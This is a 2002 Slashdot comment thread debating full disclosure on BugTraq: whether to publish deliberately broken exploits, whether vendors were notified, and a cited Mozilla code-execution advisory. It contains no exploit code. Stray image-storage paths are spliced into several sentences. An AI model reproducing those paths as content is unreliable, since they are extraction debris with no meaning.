    IMHO, if BugTraq is going to post vulns, they need to be non-working,and the user has to have the knowledge to fix them. Especially on closed platforms, it does less good release exploits for code you can't fix, because you're not fixing the problem, you're just working around it.

    umm... I think the cracker community has thier own system of karma, in the form of reputations. The guy who fixes the exploits for the kiddies gets massive ammounts of karma. There are plenty of smart people willing to fix the exploits for the kiddes, if nothing else, it raises the "noise floor" for hunting down the skilled crackers. Posting broken exploits isn't security though obscurity, it's security though denial.

  • Re:Easy (Score:2, Informative)

    by pbrammer ( 526214 ) on Tuesday November 19, 2002 @03:49PM (#4709337)
    "It's irresponsible to post a working exploit prior to notifying the code maintainer of the existence of the problem."

    Did you read the bugtraq post? He did notify the vendor. So back off.

  • by arkanes ( 521690 ) <arkanes@@@gmail...com> on Tuesday November 19, 2002 @03:58PM (#4709410) HomepageYou post working code but put a minor syntax error in it, like failing to derefrence a pointer or leaving out a bracket orsomething. Script kiddies don't know how to code, so they won't be able to compile the exploit.
  • by Plugh ( 27537 ) onWednesday November 20, 2002 @01:11AM (#4713266) Homepage

    The link [securityfocus.com] on securityfocus for the Netscape exploit is very pertinent to this discussion. It's a 4-month old exploit -- in Mozilla -- that allows malicious code to run on the client. I should hope it's obvious why that's relevant.

    Also, it's quite a good writeup, with more or less exactly the fix spelled out for the developers. Of course,the obvious question is, whoever went to all that trouble, why didn't they go the extra few yards and submit the patch to mozilla.org [mozilla.org]?

IN MY OPINION anyone interested in improving himself should not rule out becoming pure energy. -- Jack Handley, The New Mexican, 1988.